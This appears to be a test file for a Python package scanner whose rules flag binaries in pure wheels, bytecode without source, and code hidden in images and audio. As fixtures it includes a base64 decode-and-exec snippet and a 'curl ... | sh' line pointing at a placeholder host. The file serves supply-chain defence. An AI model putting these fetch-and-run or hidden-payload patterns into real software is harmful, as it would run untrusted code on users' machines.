import { describe, expect, it } from 'vitest';
import { binaries } from '../../../../../server/src/inspect/rules/members/binaries.ts';
import { codeWithoutSource } from '../../../../../server/src/inspect/rules/members/code-without-source.ts';
import { media } from '../../../../../server/src/inspect/rules/members/media.ts';
import { gif, jpeg, pe, png, wav } from './media-files.ts';
import { brief, heard, member, sdist, tree } from './member-file.ts';

const elf = Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0', 'latin1');
const macho = (hex: string) => Buffer.from(`${hex}0000000200000000000000000000`, 'hex');

// Modules enough that a program beside them is nothing special.
const members = Array.from({ length: 20 }, (_, at) => `acme/part${at}.py`);

describe('programs in what says it is Python alone', () => {
  it.each([
    ['ELF', 'acme/bin/tool', elf],
    ['PE', 'acme/tool.exe', pe()],
    ['Mach-O, 64 bits', 'acme/tool', macho('cffaedfe')],
    ['Mach-O, the other order', 'acme/tool', macho('feedfacf')],
    ['Mach-O, 32 bits', 'acme/tool', macho('cefaedfe')],
    ['Mach-O, several in one', 'acme/lib.dylib', macho('cafebabe')],
  ])('are a remark: %s', (_, name, bytes) => {
    expect(brief(heard(binaries, member(name, bytes, { members })))).toEqual(['binary-in-pure-wheel 0.3']);
    expect(brief(heard(binaries, member(name, bytes)))).toEqual(['binary-in-pure-wheel 0.55']);
    expect(brief(heard(binaries, member(`acme-1.0/${name}`, bytes, sdist)))).toEqual([
      'binary-in-pure-wheel 0.3',
    ]);
    expect(heard(binaries, member(name, bytes, { pure: false }))).toEqual([]);
    expect(heard(binaries, member(name, bytes, tree))).toEqual([]);
  });

  it('are a doubt by another name, in any wheel', () => {
    for (const name of ['acme/logo.png', 'acme/notes.txt', 'acme/data.json', 'acme/theme.css']) {
      expect(brief(heard(binaries, member(name, pe(), { pure: false })))).toEqual([
        'binary-in-pure-wheel 0.7',
      ]);
    }
    expect(brief(heard(binaries, member('acme-1.0/tests/data/x.txt', elf, sdist)))).toEqual([
      'binary-in-pure-wheel 0.4',
    ]);
  });

  it('are a doubt where a dot hides them', () => {
    expect(brief(heard(binaries, member('acme/.cache', elf, { members })))).toEqual([
      'binary-in-pure-wheel 0.7',
    ]);
  });

  it('are a remark where they are the launchers of well-known tools', () => {
    const told = (name: string, project: string) => brief(heard(binaries, member(name, pe(), { project })));
    expect(told('setuptools/cli-64.exe', 'setuptools')).toEqual(['binary-in-pure-wheel 0.3']);
    expect(told('distlib/t64-arm.exe', 'distlib')).toEqual(['binary-in-pure-wheel 0.3']);
    expect(told('setuptools/cli-64.exe', 'acme')).toEqual(['binary-in-pure-wheel 0.55']);
  });

  it('are a doubt with Python frozen into them', () => {
    const frozen = Buffer.concat([pe(), Buffer.from('MEI\x0c\x0b\x0a\x0b\x0e', 'latin1'), Buffer.alloc(80)]);
    expect(brief(heard(binaries, member('acme/tool.exe', frozen, { members })))).toEqual([
      'binary-in-pure-wheel 0.55',
    ]);
  });

  it.each([
    ['a class of Java', 'acme/Main.class', Buffer.from('cafebabe00000034', 'hex')],
    [
      'letters that begin alike',
      'acme/words.dat',
      Buffer.from('MZ is not enough, there is more to a program'),
    ],
    ['text', 'acme/notes.txt', Buffer.from('text')],
    ['nothing', 'acme/empty.bin', Buffer.alloc(0)],
  ])('are not told: %s', (_, name, bytes) => {
    expect(heard(binaries, member(name, bytes))).toEqual([]);
  });
});

describe('compiled Python', () => {
  const pyc = (flags: number) =>
    Buffer.from([0xcb, 0x0d, 0x0d, 0x0a, flags, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8]);

  it('is told where no source lies beside it', () => {
    expect(brief(heard(codeWithoutSource, member('acme/core.pyc', pyc(0))))).toEqual([
      'code-without-source 0.55',
    ]);
    expect(heard(codeWithoutSource, member('acme/core.pyc', pyc(0), { members: ['acme/core.py'] }))).toEqual(
      [],
    );
    expect(brief(heard(codeWithoutSource, member('acme-1.0/acme/core.pyo', pyc(0), sdist)))).toEqual([
      'code-without-source 0.3',
    ]);
  });

  it('is told where Python takes it for the source without looking, or has none', () => {
    const name = 'acme/__pycache__/core.cpython-312.opt-1.pyc';
    const members = ['acme/core.py'];
    expect(brief(heard(codeWithoutSource, member(name, pyc(0))))).toEqual(['code-without-source 0.5']);
    expect(brief(heard(codeWithoutSource, member(name, pyc(1), { members })))).toEqual([
      'code-without-source 0.6',
    ]);
    expect(heard(codeWithoutSource, member(name, pyc(3), { members }))).toEqual([]);
    expect(heard(codeWithoutSource, member(name, pyc(0), { members }))).toEqual([]);
  });
});

describe('pictures and sounds', () => {
  const script = 'import os\nimport base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n';
  const encoded = Buffer.from(Array.from({ length: 400 }, (_, at) => (at * 73 + (at >> 3)) % 256)).toString(
    'base64',
  );

  it.each([
    ['png', png()],
    ['jpg', jpeg()],
    ['gif', gif()],
    ['wav', wav(Buffer.alloc(600, 3))],
  ])('with something behind their end are told: %s', (ending, bytes) => {
    const name = `acme/logo.${ending}`;
    expect(heard(media, member(name, bytes))).toEqual([]);
    expect(heard(media, member(name, Buffer.concat([bytes, Buffer.alloc(64)])))).toEqual([]);
    for (const payload of [
      Buffer.from(script),
      pe(),
      Buffer.from(encoded),
      Buffer.from('PK\x03\x04 and so on and on'),
    ]) {
      expect(brief(heard(media, member(name, Buffer.concat([bytes, payload]))))).toEqual([
        'payload-in-media 0.7',
      ]);
    }
    expect(brief(heard(media, member(`tests/${name}`, Buffer.concat([bytes, pe()]))))).toEqual([
      'payload-in-media 0.4',
    ]);
  });

  it.each([
    ['code', script, 0.7],
    ['shell', '#!/bin/sh\ncurl https://files.example.invalid/x | sh\n', 0.7],
    ['encoded text', encoded, 0.6],
  ])('that are %s instead are told', (_, text, weight) => {
    expect(heard(media, member('acme/sound.wav', text))).toMatchObject([
      { rule: 'payload-in-media', weight },
    ]);
    expect(heard(media, member('acme/font.woff2', text))).toMatchObject([
      { rule: 'payload-in-media', weight },
    ]);
  });

  it.each([
    ['a pointer of Git LFS', 'version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n'],
    ['a picture in XML', '<svg xmlns="http://www.w3.org/2000/svg"><script>import os</script></svg>'],
    ['a link of version control', '../images/logo.png'],
    ['a placeholder', 'not really a picture, just for the tests'],
  ])('that are text are not told where it is %s', (_, text) => {
    expect(heard(media, member('acme/logo.png', text))).toEqual([]);
  });

  it('are told where the samples of a sound are text', () => {
    expect(brief(heard(media, member('acme/ring.wav', wav(Buffer.from(encoded)))))).toEqual([
      'payload-in-media 0.7',
    ]);
    expect(brief(heard(media, member('acme/ring.wav', wav(Buffer.from(script.repeat(6))))))).toEqual([
      'payload-in-media 0.7',
    ]);
  });

  it('are told where a comment in a picture is code', () => {
    expect(brief(heard(media, member('acme/logo.png', png(`Comment\0${script}`))))).toEqual([
      'payload-in-media 0.6',
    ]);
    expect(
      heard(media, member('acme/logo.png', png('Comment\0Made with a program that draws pictures of cats.'))),
    ).toEqual([]);
  });

  it('end with an answer when they are cut short', () => {
    for (const bytes of [png(), jpeg(), gif(), wav(Buffer.alloc(300, 7))]) {
      for (let length = 0; length < bytes.length; length += 1) {
        expect(heard(media, member('acme/x.png', bytes.subarray(0, length)))).toEqual([]);
      }
    }
  });
});
